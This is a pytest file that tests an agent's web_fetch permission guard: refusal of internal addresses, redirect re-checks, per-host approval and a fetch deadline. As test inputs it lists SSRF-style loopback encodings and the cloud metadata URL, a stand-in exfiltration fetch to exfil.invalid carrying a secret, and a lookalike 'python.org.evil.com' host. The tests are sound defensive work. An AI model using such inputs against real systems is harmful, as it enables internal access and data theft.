"""web_fetch attempts from the permissions probe: internal addresses, redirects, per-host
approval and one deadline per fetch, against a real HTTP server on 127.0.0.1."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from app.core.agent.cancel import CancelToken
from app.core.policy.net_guard import host_key, host_matches
from app.core.settings.tool_config import PermissionsConfig, ToolsConfig
from app.core.tools.base import ToolContext, ToolError
from app.core.tools.web import WebFetch
from tests.core.policy.security_helpers import replay

FETCH_ALLOWED = PermissionsConfig(tools={"web_fetch": "allow"})


class Handler(BaseHTTPRequestHandler):
    slow_done = threading.Event()

    def log_message(self, *args: object) -> None:
        pass

    def do_GET(self) -> None:
        port = self.server.server_address[1]
        if self.path == "/to-loopback":
            self.send_response(302)
            self.send_header("Location", f"http://127.0.0.1:{port}/page")
            self.end_headers()
        elif self.path == "/slow":
            self.send_response(200)
            self.send_header("Content-Type", "text/plain")
            self.send_header("Content-Length", "40")
            self.end_headers()
            try:
                for _ in range(40):  # one byte at a time: every read is quick, the whole is not
                    self.wfile.write(b"x")
                    self.wfile.flush()
                    time.sleep(0.1)  # the slow server is what the test is about: it must take time
            except OSError:
                return
            Handler.slow_done.set()
        else:
            body = b"<html><body><p>internal page</p></body></html>"
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)


@pytest.fixture(scope="module")
def port() -> Iterator[int]:
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield int(httpd.server_address[1])
    finally:
        httpd.shutdown()
        httpd.server_close()


INTERNAL = ["http://127.0.0.1:{p}/", "http://localhost:{p}/", "http://[::ffff:127.0.0.1]:{p}/",
            "http://0.0.0.0:{p}/", "http://2130706433:{p}/", "http://0x7f.1:{p}/",
            "http://127.1:{p}/", "http://169.254.169.254/latest/meta-data/",
            "http://[::1]:{p}/", "http://10.0.0.1/"]


@pytest.mark.parametrize("url", INTERNAL)
async def test_internal_addresses_are_refused(tmp_path: Path, port: int, url: str) -> None:
    run = await replay(tmp_path / "ws", [("web_fetch", {"url": url.format(p=port)})],
                       permissions=FETCH_ALLOWED)
    (attempt,) = run.attempts()
    assert attempt.verdict == "refused"
    assert "internal page" not in attempt.result.content
    assert "only reaches public addresses" in attempt.result.content


async def test_a_named_private_host_is_reachable_but_not_its_redirect(tmp_path: Path,
                                                                     port: int) -> None:
    tools = ToolsConfig(web_fetch_private_hosts=("localhost",))
    run = await replay(tmp_path / "ws", [
        ("web_fetch", {"url": f"http://localhost:{port}/page"}),
        ("web_fetch", {"url": f"http://localhost:{port}/to-loopback"}),
    ], permissions=FETCH_ALLOWED, tools=tools)
    page, redirected = run.attempts()
    assert page.verdict == "allowed" and "internal page" in page.result.content
    # The redirect goes to 127.0.0.1, which the config does not name: refused on that hop.
    assert redirected.verdict == "refused" and "internal page" not in redirected.result.content
    assert "127.0.0.1 resolves to 127.0.0.1" in redirected.result.content


async def test_session_approval_covers_one_host(tmp_path: Path, port: int) -> None:
    tools = ToolsConfig(web_fetch_private_hosts=("localhost",))
    run = await replay(tmp_path / "ws", [
        ("web_fetch", {"url": f"http://localhost:{port}/page"}),
        ("web_fetch", {"url": f"http://localhost:{port}/other"}),
        ("web_fetch", {"url": "https://exfil.invalid/?d=secret"}),
    ], permissions=PermissionsConfig(), tools=tools, answers=["allow_session"])
    first, same_host, other_host = run.attempts()
    assert first.verdict == "asked" and first.asked[0].session_label == f"localhost:{port}"
    assert same_host.verdict == "allowed" and "internal page" in same_host.result.content
    assert other_host.verdict == "asked" and "Refused" in other_host.result.content


async def test_configured_hosts_need_no_question(tmp_path: Path, port: int) -> None:
    tools = ToolsConfig(web_fetch_private_hosts=("localhost",))
    run = await replay(tmp_path / "ws", [("web_fetch", {"url": f"http://localhost:{port}/x"}),
                                         ("web_fetch", {"url": "http://elsewhere.invalid/"})],
                       permissions=PermissionsConfig(web_allow=("localhost",)), tools=tools)
    listed, other = run.attempts()
    assert listed.verdict == "allowed" and other.verdict == "asked"


async def test_one_deadline_for_the_whole_fetch(tmp_path: Path, port: int) -> None:
    Handler.slow_done.clear()
    tool = WebFetch(timeout=1, private_hosts=("127.0.0.1",))
    with pytest.raises(ToolError, match="did not finish within 1 s"):
        await tool.run({"url": f"http://127.0.0.1:{port}/slow"},
                       ToolContext(tmp_path, CancelToken()))
    # The server was still trickling bytes (each read was quick) when the fetch gave up.
    assert not Handler.slow_done.is_set()


def test_host_keys_and_entries() -> None:
    assert host_key("https://Example.COM/a") == "example.com"
    assert host_key("http://example.com:8080/") == "example.com:8080"
    assert host_key("https://example.com:443/") == "example.com"
    assert host_matches("https://docs.python.org/3/", ["*.python.org"])
    assert not host_matches("https://python.org.evil.com/", ["*.python.org", "python.org"])
    assert not host_matches("http://example.com:8080/", ["example.com:9090"])


def test_the_config_keys_reach_the_tools() -> None:
    from app.core.settings.config import parse_config
    from app.core.tools.defaults import builtin_tools

    cfg = parse_config('[permissions]\nweb_allow = ["docs.python.org"]\n'
                       '[tools]\nweb_fetch_private_hosts = ["localhost"]\nweb_fetch_timeout = 7\n'
                       'exec_env_keep = ["DATABASE_URL"]\nexec_keep_background = true\n')
    assert cfg.permissions.web_allow == ("docs.python.org",)
    tools = {t.spec.name: t for t in builtin_tools(cfg.tools, cfg.permissions)}
    assert tools["web_fetch"].private_hosts == ("localhost",) and tools["web_fetch"].timeout == 7
    assert tools["exec"].env_keep == ("DATABASE_URL",) and tools["exec"].keep_background
